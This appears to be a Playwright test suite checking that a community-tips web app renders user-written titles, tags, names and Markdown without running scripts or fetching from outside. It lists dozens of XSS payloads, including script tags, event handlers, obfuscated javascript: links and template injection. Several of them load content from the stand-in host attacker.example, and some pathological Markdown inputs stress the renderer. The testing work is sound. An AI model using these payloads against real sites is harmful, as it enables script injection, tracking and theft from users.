import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { ada, stepTo, type TabRig } from "../rig.ts";
import { paste } from "./pasting.ts";

const elsewhere = "https://attacker.example";
const run = "window.pwned=1,alert(1)";

/** Each tries to run `run` or to fetch something from elsewhere, in a title, a tag, a name or Markdown. */
const attacks: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${elsewhere}/tracker.gif" srcset="${elsewhere}/2x.gif 2x">`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
  `<iframe src="javascript:${run}" srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${elsewhere}/a.swf"></object><embed src="${elsewhere}/a.swf">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<form action="${elsewhere}"><input name=a autofocus onfocus="${run}"><button>Go</button></form>`,
  `<base href="${elsewhere}/"><link rel=stylesheet href="${elsewhere}/a.css"><meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<style>@import "${elsewhere}/a.css"; body { background: url(${elsewhere}/b.png) }</style>`,
  `<a href="javascript:${run}" onmouseover="${run}">hover</a>`,
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt:${run})`,
  `[click](java&#x09;script:${run})`,
  `[click](&#106;avascript:${run})`,
  `[click](vbscript:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  `[click](<javascript:${run}> "title")`,
  `[click][ref]\n\n[ref]: javascript:${run}`,
  `<javascript:${run}>`,
  `![tracker](${elsewhere}/tracker.gif)`,
  `![" onerror="${run}](x "' onerror='${run}")`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  `[![x](${elsewhere}/tracker.gif)](javascript:${run})`,
  `[x](//attacker.example/path)`,
  `[x](https://user@attacker.example)`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror="${run}">\``,
  `| <script>${run}</script> | [x](javascript:${run}) |\n| --- | --- |\n| <img src=x onerror="${run}"> | ![x](${elsewhere}/t.gif) |`,
  `- [x] <input onfocus="${run}" autofocus>`,
  `x[^1]\n\n[^1]: [click](javascript:${run})`,
  `{{constructor.constructor("${run}")()}} \${${run}} $t(app.name) {{name}}`,
  `__proto__ constructor toString`,
];

/** Shown as they were typed; with them in one text all others would be, too. */
const costly: readonly string[] = [
  ">".repeat(5_000),
  "- ".repeat(5_000),
  "**a".repeat(6_000),
  `${"|".repeat(6_000)}\n${"|-".repeat(4_000)}\n${"|\n".repeat(2_900)}`,
];

export function describeAttacks(rig: () => TabRig): void {
  describe("what people write runs nothing and fetches nothing:", () => {
    let page: Page;
    let communityId: string;

    beforeEach(async () => {
      page = await rig().pages.take(ada);
    });

    /** The rig itself judges dialogs, complaints of the console, which include the CSP's, and foreign requests. */
    async function assertHarmless() {
      // Whatever was put into the page has had its turn.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
      const found = await page.evaluate(() => ({
        pwned: "pwned" in window,
        active: [
          ...document.querySelectorAll(
            "main :is(script, iframe, object, embed, img, style, form form, base)",
          ),
        ].map((element) => element.outerHTML),
        handlers: [...document.querySelectorAll("main *")].flatMap((element) =>
          element.getAttributeNames().filter((name) => name.startsWith("on")),
        ),
        links: [...document.querySelectorAll<HTMLAnchorElement>("main a[href]")].map(
          ({ href, rel, origin }) => ({
            href,
            isSafe:
              origin === location.origin ||
              (/^(?:https|mailto):/u.test(href) && rel === "noopener noreferrer"),
          }),
        ),
      }));
      assert.equal(found.pwned, false);
      assert.deepEqual(found.active, []);
      assert.deepEqual(found.handlers, []);
      assert.deepEqual(
        found.links.filter(({ isSafe }) => !isSafe),
        [],
      );
    }

    before(async () => {
      const { community } = await rig().startCommunity({
        name: `<img src=x onerror="${run}">`,
        purpose: `<script>${run}</script> [x](javascript:${run})`,
        tips: attacks.slice(0, 15).map((attack, index) => ({
          title: `${index} ${attack}`.slice(0, 120),
          markdown: attack,
          tags: [attack.replaceAll(",", " ").slice(0, 40), "attack"],
          credit: { kind: "person", name: attack.slice(0, 200) },
        })),
      });
      communityId = community.id;
    });

    it("in the list, in search results and in the personal tab", async () => {
      await page.goto(`/tab/community/${communityId}`);
      await page.getByRole("region", { name: "Newest tips" }).waitFor();
      await assertHarmless();
      await page.getByRole("searchbox").fill("script onerror");
      await page.getByRole("region", { name: "Search results" }).waitFor();
      await assertHarmless();

      await page.goto("/tab/home");

      await page.getByRole("heading", { name: "My communities" }).waitFor();
      await assertHarmless();
    });

    it("on tips' pages, each attack by itself", async () => {
      const credit = { kind: "person", name: `<b onclick="${run}">x</b>` } as const;
      await page.goto(`/tab/community/${communityId}`);
      for (const [index, attack] of [...attacks, ...costly].entries()) {
        const markdown = `${attack}\n\nThe end`;
        const tip = await rig().saveTip(ada, communityId, { title: `Attack ${index}`, markdown, credit });
        const path = `/tab/community/${communityId}/tip/${tip.id}`;
        await stepTo(page, path);
        await page.getByRole("heading", { name: `Attack ${index}`, exact: true }).waitFor();
        await page.getByRole("article").getByText("The end").waitFor();
        await assertHarmless();
      }
    });

    it("all in one text, on its page, in the form and in its preview", async () => {
      const markdown = ["The beginning", ...attacks].join("\n\n");
      const tip = await rig().saveTip(ada, communityId, { title: "All", markdown });
      await page.goto(`/tab/community/${communityId}/tip/${tip.id}`);
      await page.getByRole("article").getByText("The beginning").waitFor();
      await assertHarmless();

      await page.getByRole("link", { name: "Edit" }).click();
      await page.getByRole("switch", { name: "Preview" }).check();
      await page.getByRole("region", { name: "Preview" }).getByText("The beginning").waitFor();

      await assertHarmless();
    });

    it("when it is pasted as a message", async () => {
      await page.goto(`/tab/community/${communityId}/new-tip?from=message`);
      await paste(page, [...attacks, ...costly.slice(0, 2)].join("<p>and</p>"), "A message");
      await page.getByRole("button", { name: "Continue" }).click();
      await page.getByRole("switch", { name: "Preview" }).check();
      await page.getByRole("region", { name: "Preview" }).getByText("and").first().waitFor();

      await assertHarmless();
    });
  });
}
